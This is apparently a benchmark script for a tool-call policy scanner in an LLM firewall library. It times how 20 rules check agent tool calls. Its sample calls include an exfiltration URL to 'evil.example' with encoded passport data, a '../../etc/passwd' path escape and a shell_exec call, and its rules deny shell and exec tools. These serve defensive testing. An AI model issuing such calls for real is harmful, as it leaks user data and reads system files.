"""Per-call cost of the tool policy with 20 rules, through ``check_call`` and through ``LlamaFirewall.scan``.

Baselines measured in the same run:
  * ``engine + noop``: the same engine path with a sync scanner that returns ALLOW at once, so the ratio
    ``engine.scan(tool_policy) / engine.scan(noop)`` shows what the policy adds to the engine's own overhead;
  * ``naive loop``: a straightforward policy (``fnmatch`` over every rule on every call, ``urlparse`` and a set
    lookup) that checks far less (no userinfo, IDNA, IP, nested-URL or symlink handling): the floor of the
    cheapest plausible implementation;
  * the issue's budget, 100 µs per call.

Run: ``.venv/bin/python benchmarks/bench_tool_policy.py [--iterations N]``. Timings on a shared machine drift;
read the ratios.
"""

from __future__ import annotations

import argparse
import fnmatch
import statistics
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlparse

from lf_middleware import AssistantMessage, LlamaFirewall, Role, ScanDecision, ToolMessage, UserMessage
from lf_middleware.scanners.base import Scanner
from lf_middleware.scanners.tool_policy import ToolPolicyScanner


def rules(root: Path) -> list[dict]:
    allow = ["api.travel.example", "*.booking.example", "maps.example.com", "*.weather.example"]
    out: list[dict] = [
        {"name": "http", "tool": ["http_request", "fetch_url"], "args": {"url": {"url": {"allow_domains": allow}}}},
        {"name": "http-method", "tool": "http_request", "args": {"method": {"enum": ["GET", "HEAD"]}}},
        {"name": "http-budget", "tool": "http_*", "decision": "hitl", "budget": {"max_calls": 50}},
        {"name": "no-shell", "tool": ["shell*", "exec*", "run_command"], "action": "deny"},
        {"name": "no-delete", "tool": "*delete*", "action": "deny", "decision": "hitl"},
        {"name": "files", "tool": ["read_file", "write_file", "list_dir"],
         "args": {"path": {"path": {"roots": [str(root)]}}}},
        {"name": "write-size", "tool": "write_file", "args": {"content": {"max_chars": 100_000}}},
        {"name": "email-to", "tool": "send_email", "decision": "hitl",
         "args": {"to": {"regex": r"[^@\s]+@(corp\.example|travel\.example)"}}},
        {"name": "email-budget", "tool": "send_email", "budget": {"max_calls": 3}},
        {"name": "pay-range", "tool": "pay*", "decision": "hitl", "args": {"amount": {"range": {"min": 0, "max": 500}}}},
        {"name": "pay-currency", "tool": "pay*", "args": {"currency": {"enum": ["EUR", "USD", "GBP"]}}},
        {"name": "search-q", "tool": "search*", "args": {"query": {"max_chars": 2000, "deny_regex": r"(?i)api[_-]?key"}}},
        {"name": "search-budget", "tool": "search*", "decision": "hitl", "budget": {"max_calls": 40}},
        {"name": "book", "tool": "book_*", "args": {"passengers": {"range": {"min": 1, "max": 9}}}},
        {"name": "book-class", "tool": "book_*", "args": {"cabin": {"enum": ["economy", "premium", "business"]}}},
        {"name": "sql", "tool": "sql_*", "args": {"query": {"regex": r"(?is)\s*select\b.*"}}},
        {"name": "db-deny", "tool": "db_admin*", "action": "deny"},
        {"name": "calendar", "tool": "calendar_*", "args": {"days": {"range": {"max": 365}}}},
        {"name": "translate", "tool": "translate", "args": {"lang": {"regex": "[a-z]{2}(-[A-Z]{2})?"}}},
        {"name": "weather", "tool": "get_weather", "args": {"city": {"max_chars": 100, "required": True}}},
    ]
    assert len(out) == 20
    return out


class _Noop(Scanner):
    name = "noop"
    default_hitl_threshold = None
    default_block_threshold = None
    score_based = False
    #: bounded, like the scanners it stands in for: runs inline (sync scanners without it run on a worker
    #: thread, so that the engine's timeout can give up on them)
    linear_time = True

    def scan_sync(self, message, past_trace=None):  # type: ignore[no-untyped-def]
        return self.result(reason="noop")


def _naive(rule_list: list[dict]) -> Callable[[str, dict], bool]:
    allow = set()
    for r in rule_list:
        for arg in r.get("args", {}).values():
            allow.update(arg.get("url", {}).get("allow_domains", []))

    def check(name: str, args: dict) -> bool:
        ok = True
        for r in rule_list:
            globs = r["tool"] if isinstance(r["tool"], list) else [r["tool"]]
            if any(fnmatch.fnmatch(name, g) for g in globs):
                if r.get("action") == "deny":
                    ok = False
                url = args.get("url")
                if isinstance(url, str):
                    host = urlparse(url).hostname or ""
                    ok = ok and (host in allow or any(host.endswith(a[1:]) for a in allow if a.startswith("*.")))
        return ok

    return check


def _time(fn: Callable[[], object], n: int) -> tuple[float, float]:
    for _ in range(min(2000, n // 10)):
        fn()
    samples = []
    pc = time.perf_counter_ns
    for _ in range(n):
        t = pc()
        fn()
        samples.append(pc() - t)
    samples.sort()
    return samples[len(samples) // 2] / 1000.0, samples[int(len(samples) * 0.99)] / 1000.0


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--iterations", type=int, default=20_000)
    n = ap.parse_args().iterations

    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp) / "workspace"
        (root / "docs").mkdir(parents=True)
        rule_list = rules(root)
        scanner = ToolPolicyScanner(rules=rule_list, default="hitl", max_arg_chars=200_000)
        lf = LlamaFirewall(scanners={Role.ASSISTANT: [scanner]})
        lf_noop = LlamaFirewall(scanners={Role.ASSISTANT: [_Noop()]})
        naive = _naive(rule_list)

        session = [UserMessage("plan a trip to Lisbon")]
        for i in range(100):  # a 200-message session for the budget rules
            session.append(AssistantMessage("", tool_calls=[{"name": "search_flights", "args": {"q": i}, "id": f"s{i}"}]))
            session.append(ToolMessage("results", name="search_flights", tool_call_id=f"s{i}"))

        calls = {
            "allowed URL (nested query)": ("http_request", {"method": "GET", "url":
                                           "https://api.travel.example/v1/flights?from=LHR&to=LIS&next=https://www.booking.example/x"}),
            "exfiltration URL (blocked)": ("http_request", {"method": "GET", "url":
                                           "https://evil.example/exfil?data=eyJwYXNzcG9ydCI6IkFCMTIzNDU2In0"}),
            "path inside root": ("read_file", {"path": "docs/itinerary.txt"}),
            "path escape (blocked)": ("read_file", {"path": "../../etc/passwd"}),
            "enum+range (payment)": ("pay_invoice", {"amount": 120.5, "currency": "EUR"}),
            "denied tool": ("shell_exec", {"cmd": "ls"}),
            "unknown tool (default)": ("mystery", {"x": 1}),
        }
        expected = {"exfiltration URL (blocked)": ScanDecision.BLOCK, "path escape (blocked)": ScanDecision.BLOCK,
                    "denied tool": ScanDecision.BLOCK, "unknown tool (default)": ScanDecision.HUMAN_IN_THE_LOOP_REQUIRED}

        print(f"tool_policy with {len(rule_list)} rules, {n} iterations per row; µs per tool call (p50 / p99)")
        print(f"{'case':34} {'check_call':>20} {'engine.scan':>20} {'engine+noop':>20} {'naive loop':>12}")
        ratios = []
        for label, (name, args) in calls.items():
            r = scanner.check_call(name, args)
            assert r.decision is expected.get(label, ScanDecision.ALLOW), (label, r.reason)
            msg = AssistantMessage("", tool_calls=[{"name": name, "args": args, "id": "c1"}])
            cc = _time(lambda name=name, args=args: scanner.check_call(name, args), n)
            es = _time(lambda msg=msg: lf.scan(msg), n)
            en = _time(lambda msg=msg: lf_noop.scan(msg), n)
            nv = _time(lambda name=name, args=args: naive(name, args), n)
            ratios.append((cc[0], es[0], en[0], nv[0]))
            print(f"{label:34} {cc[0]:8.1f} / {cc[1]:8.1f}   {es[0]:8.1f} / {es[1]:8.1f}   {en[0]:8.1f} / {en[1]:8.1f}"
                  f"   {nv[0]:8.1f}")

        name, args = "search_flights", {"query": "LHR to LIS"}
        bc = _time(lambda: scanner.check_call(name, args, session), n // 4)
        msg3 = AssistantMessage("", tool_calls=[{"name": c[0], "args": c[1], "id": str(i)}
                                                for i, c in enumerate(list(calls.values())[:3])])
        m3 = _time(lambda: lf.scan(msg3), n // 4)
        print(f"{'budget over a 200-message trace':34} {bc[0]:8.1f} / {bc[1]:8.1f}")
        print(f"{'message with 3 calls (engine)':34} {'':20}   {m3[0]:8.1f} / {m3[1]:8.1f}   "
              f"({m3[0] / 3:.1f} per call)")

        worst_cc = max(r[0] for r in ratios)
        med = statistics.median
        print()
        print(f"check_call p50, median over cases: {med(r[0] for r in ratios):.1f} µs; worst case {worst_cc:.1f} µs "
              f"= {worst_cc / 100:.2f}x the 100 µs budget")
        print(f"engine.scan(tool_policy) / engine.scan(noop): {med(r[1] / r[2] for r in ratios):.2f}x (median over cases); "
              f"policy adds {med(r[1] - r[2] for r in ratios):.1f} µs")
        print(f"check_call / naive loop: {med(r[0] / r[3] for r in ratios):.2f}x (median over cases)")


if __name__ == "__main__":
    main()
